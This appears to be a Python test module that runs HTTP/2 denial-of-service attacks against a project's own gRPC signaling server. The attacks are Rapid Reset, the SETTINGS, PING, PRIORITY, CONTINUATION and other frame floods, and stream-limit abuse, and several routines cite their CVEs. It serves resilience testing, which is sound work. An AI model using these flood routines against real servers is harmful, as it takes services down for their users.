"""Too much of what is allowed."""

import itertools
import struct
from typing import Final

from signaling.v1 import signaling_pb2 as pb

from tests.hostile.attacking import pours
from tests.transport.http2 import END_HEADERS, INITIAL_WINDOW_SIZE, Http2, Kind, framed, string

CHUNK: Final = 200  # frames in one write
CHUNKS: Final = 100
HELLO: Final = pb.ConnectRequest(hello=pb.Hello())


def somebody(connection: int, stream: int) -> tuple[tuple[str, str], ...]:
    """The identity that a stream of an attack claims."""
    return (("user-id", f"mallory-{connection}"), ("device-id", f"device-{stream % 16}"))


async def rapid_reset(connection: Http2, number: int) -> None:
    """20,000 RPCs, each cancelled in the packet that begins it (CVE-2023-44487)."""
    await _resets(connection, number, chunks=CHUNKS)


async def reset_after_hello(connection: Http2, number: int) -> None:
    """4,000, with a hello in between."""
    await _resets(connection, number, HELLO, chunks=CHUNKS // 5)


async def settings_flood(connection: Http2, _: int) -> None:
    """Each has to be acknowledged, and nobody reads the acknowledgements (CVE-2019-9515)."""
    await _repeats(connection, Kind.SETTINGS, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))


async def ping_flood(connection: Http2, _: int) -> None:
    """Each has to be answered (CVE-2019-9512)."""
    await _repeats(connection, Kind.PING, b"12345678")


async def priority_flood(connection: Http2, _: int) -> None:
    """Of a stream that nobody has opened, depending on itself (CVE-2019-9513)."""
    await _repeats(connection, Kind.PRIORITY, b"\0\0\0\1\xff", stream=1)


async def goaway_flood(connection: Http2, _: int) -> None:
    """Farewell, again and again."""
    await _repeats(connection, Kind.GOAWAY, bytes(8))


async def unknown_frames(connection: Http2, _: int) -> None:
    """A kind of frame that there is not, which has to be ignored."""
    await _repeats(connection, 0xBE, b"junk")


async def window_flood(connection: Http2, number: int) -> None:
    """One byte of window at a time."""
    await _repeats(connection, Kind.WINDOW_UPDATE, b"\0\0\0\1", stream=1, sender=number)


async def empty_data(connection: Http2, number: int) -> None:
    """Frames without a byte in them, on an open stream (CVE-2019-9518)."""
    await _repeats(connection, Kind.DATA, b"", stream=1, sender=number)


async def continuation_flood(connection: Http2, _: int) -> None:
    """Header fields without end (CVE-2024-27316)."""
    await connection.open()
    connection.frame(Kind.HEADERS, 1, b"\x83\x86")
    fields = framed(Kind.CONTINUATION, 1, (b"\x00\x01x" + string("y" * 1000)) * 16)
    await pours(connection, CHUNKS, lambda: fields)
    connection.frame(Kind.CONTINUATION, 1, b"", END_HEADERS)


async def empty_continuations(connection: Http2, _: int) -> None:
    """The same, and nothing in them."""
    await connection.open()
    connection.frame(Kind.HEADERS, 1, b"\x83\x86")
    await pours(connection, CHUNKS, lambda: framed(Kind.CONTINUATION, 1, b"") * CHUNK)
    connection.frame(Kind.CONTINUATION, 1, b"", END_HEADERS)


async def too_many_streams(connection: Http2, number: int) -> None:
    """200 RPCs where 100 are allowed."""
    await connection.open()
    for stream in range(1, 400, 2):
        connection.request(stream, somebody(number, stream))
    await connection.flush()


async def _resets(
    connection: Http2, number: int, *messages: pb.ConnectRequest, chunks: int
) -> None:
    await connection.open()
    streams = itertools.count(1, 2)

    def chunk() -> bytes:
        for stream in itertools.islice(streams, CHUNK):
            connection.request(stream, somebody(number, stream))
            connection.send(stream, *messages)
            connection.reset(stream)
        return b""

    await pours(connection, chunks, chunk)


async def _repeats(
    connection: Http2, kind: int, payload: bytes, stream: int = 0, sender: int | None = None
) -> None:
    """20,000 frames of a kind; with a sender, of a stream that is open."""
    await connection.open()
    if sender is not None:
        connection.request(stream, somebody(sender, stream))
    chunk = framed(kind, stream, payload) * CHUNK
    await pours(connection, CHUNKS, lambda: chunk)
